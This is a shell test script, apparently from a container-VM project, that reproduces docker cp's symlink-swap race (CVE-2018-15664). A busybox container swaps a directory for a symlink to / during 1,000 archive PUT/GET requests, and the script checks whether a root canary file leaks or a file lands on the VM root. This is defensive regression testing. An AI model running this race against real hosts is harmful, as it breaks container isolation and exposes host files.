# docker cp's symlink-swap race (CVE-2018-15664) in the running machine
# "$machine", with DOCKER_HOST set to its docker.sock and busybox loaded.
# Sourced by cp_race_vm.sh and included by tests/containers_vm.rs. The
# container sleeps 200 us between swaps: a loop without pauses on the
# machine's vCPUs made the nested TCG outer VM stop without a status (twice,
# 2026-12-01).
# The container swaps d/ for a symlink to / over and over while 1,000 rounds
# of PUT into /d and GET of d/berth-canary go through the machine's
# docker.sock (one curl process, many requests).
berth machine shell "$machine" -- sh -c 'echo vm-secret > /berth-canary'
boot=$(berth machine shell "$machine" -- cat /proc/sys/kernel/random/boot_id)
engine_mem() { berth machine shell "$machine" -- sh -c 'echo "engine $(grep VmRSS /proc/1/status | tr -s " \t" " ") fds $(ls /proc/1/fd | wc -l), vm $(grep MemAvailable /proc/meminfo | tr -s " " " ")"'; }
echo "race before: $(engine_mem)"
docker run -d --name race busybox sh -c 'mkdir /d && echo in > /d/inside && cd / && while :; do mv d d.x; ln -s / d; usleep 200; rm d; mv d.x d; usleep 200; done' >/dev/null
mkdir -p /tmp/race/put && echo put > /tmp/race/put/race-put-file && tar -C /tmp/race/put -cf /tmp/race/put.tar race-put-file
sock=${DOCKER_HOST#unix://}
for i in $(seq 1 1000); do
  echo "unix-socket = \"$sock\""; echo 'request = "PUT"'; echo 'data-binary = "@/tmp/race/put.tar"'
  echo 'url = "http://x/containers/race/archive?path=/d"'; echo 'output = "/dev/null"'; echo 'write-out = "put %{http_code}\n"'; echo next
  echo "unix-socket = \"$sock\""; echo 'url = "http://x/containers/race/archive?path=/d/berth-canary"'
  echo "output = \"/tmp/race/get$i\""; echo 'write-out = "get %{http_code}\n"'; echo next
done | sed '$d' > /tmp/race/curl.cfg
curl -s -K /tmp/race/curl.cfg > /tmp/race/codes || true
echo "race puts into d/: $(grep -c '^put 200' /tmp/race/codes) of 1000"
echo "race gets: $(grep -c '^get ' /tmp/race/codes)"
echo "race leaked reads: $(cat /tmp/race/get* | grep -c vm-secret || true)"
if [ "$(berth machine shell "$machine" -- cat /proc/sys/kernel/random/boot_id)" != "$boot" ]; then
  # The machine ended during the race and `machine shell` started it again:
  # say why it ended before anything else runs.
  echo "race: THE MACHINE RESTARTED"
  dir=$(dirname "$(berth machine inspect "$machine" | sed -n 's/.*"console_log": *"\(.*\)".*/\1/p')")
  echo "--- machine.log"; tail -n 20 "$dir/machine.log"
  echo "--- previous console"; berth machine logs --previous "$machine" | tail -n 60
  echo "--- engine log"; berth machine logs --engine "$machine" | tail -n 60
  echo "---"
fi
echo "race after: $(engine_mem)"
echo "race canary: $(berth machine shell "$machine" -- cat /berth-canary) vm root: $(berth machine shell "$machine" -- sh -c 'test -e /race-put-file && echo WRITTEN || echo clean')"
docker rm -f race >/dev/null
